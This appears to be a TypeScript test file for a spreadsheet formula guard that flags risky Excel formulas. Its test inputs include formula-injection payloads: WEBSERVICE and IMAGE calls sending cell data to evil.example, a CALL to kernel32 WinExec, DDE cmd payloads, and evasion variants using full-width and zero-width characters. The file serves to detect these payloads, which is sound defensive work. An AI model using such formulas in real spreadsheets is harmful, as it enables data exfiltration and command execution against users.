/** The formula guard on its own: pure text checks, no Excel needed. */
import { describe, expect, it } from 'vitest';
import { inspectCellInput, inspectFormula, isFormulaText } from './formula-guard';

const whats = (text: string) => inspectFormula(text).map((f) => f.what);

describe('formula guard', () => {
  it.each([
    ['=WEBSERVICE("https://evil.example/?d="&A1)', 'WEBSERVICE'],
    ['=IMAGE("https://evil.example/p.png?"&B2)', 'IMAGE'],
    ['=RTD("progid",,"topic")', 'RTD'],
    ['=CALL("kernel32","WinExec","JCJ","calc",0)', 'CALL'],
    ['=REGISTER.ID("user32","MessageBoxA")', 'REGISTER.ID'],
    ['=_xlfn.WEBSERVICE("http://x")', 'WEBSERVICE'],
  ])('flags %s', (formula, what) => {
    expect(whats(formula)).toContain(what);
  });

  it('flags FILTERXML over WEBSERVICE data and says so', () => {
    const findings = inspectFormula('=FILTERXML(WEBSERVICE("http://x/api"),"//v")');
    expect(findings.map((f) => f.what)).toEqual(expect.arrayContaining(['WEBSERVICE', 'FILTERXML']));
    expect(findings.find((f) => f.what === 'FILTERXML')?.message).toMatch(/WEBSERVICE/);
  });

  it('flags HYPERLINK with a built address or an http(s) literal, not a plain local one', () => {
    expect(whats('=HYPERLINK("https://evil.example/"&A1,"click")')).toContain('HYPERLINK');
    expect(whats('=HYPERLINK(A1)')).toContain('HYPERLINK');
    expect(whats('=HYPERLINK("https://example.com","site")')).toContain('HYPERLINK');
    expect(whats('=HYPERLINK("#Sheet2!A1","go")')).toEqual([]);
  });

  it.each([
    "=[Budget.xlsx]Sheet1!A1",
    "='C:\\Users\\me\\[Secrets.xlsx]Pay'!B2",
    "='\\\\server\\share\\[x.xlsm]S'!A1",
    '=SUM([1]Sheet1!A1:A9)',
    '=INDIRECT("[Other.xlsx]S!A1")',
  ])('flags the external reference in %s', (formula) => {
    expect(inspectFormula(formula).map((f) => f.kind)).toContain('external-link');
  });

  it.each(["=cmd|'/c calc'!A0", "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", '=SUM(1)+cmd|x!A1'])('flags DDE in %s', (formula) => {
    expect(whats(formula)).toContain('DDE');
  });

  it('sees through lower case, spaces, full-width letters and zero-width characters', () => {
    expect(whats('=webservice("http://x")')).toContain('WEBSERVICE');
    expect(whats('=  WEBSERVICE  ("http://x")')).toContain('WEBSERVICE');
    expect(whats('=ＷＥＢＳＥＲＶＩＣＥ("http://x")')).toContain('WEBSERVICE');
    expect(whats('=WEB\u200bSER\u2060VICE("http://x")')).toContain('WEBSERVICE');
    expect(whats('=Web\u00adService("http://x")')).toContain('WEBSERVICE');
    expect(whats("=cmd｜'/c calc'!A0")).toContain('DDE');
  });

  it('leaves ordinary formulas alone, including structured references and names inside strings', () => {
    expect(inspectFormula('=SUM(Table1[Amount])*Rates!$B$2')).toEqual([]);
    expect(inspectFormula('=IF(A1="WEBSERVICE(x)","yes","no")')).toEqual([]);
    expect(inspectFormula('=VLOOKUP(A2,Prices!A:B,2,FALSE)')).toEqual([]);
    expect(inspectFormula('="a|b"')).toEqual([]);
  });

  it('treats cell text as data unless it starts with "="', () => {
    expect(isFormulaText('please add =WEBSERVICE("http://x")')).toBe(false);
    expect(inspectCellInput('please add =WEBSERVICE("http://x")')).toEqual([]);
    expect(inspectCellInput(42)).toEqual([]);
    expect(isFormulaText(' =WEBSERVICE("http://x")')).toBe(true);
    expect(inspectCellInput('＝WEBSERVICE("http://x")').map((f) => f.what)).toEqual(['WEBSERVICE']);
  });
});
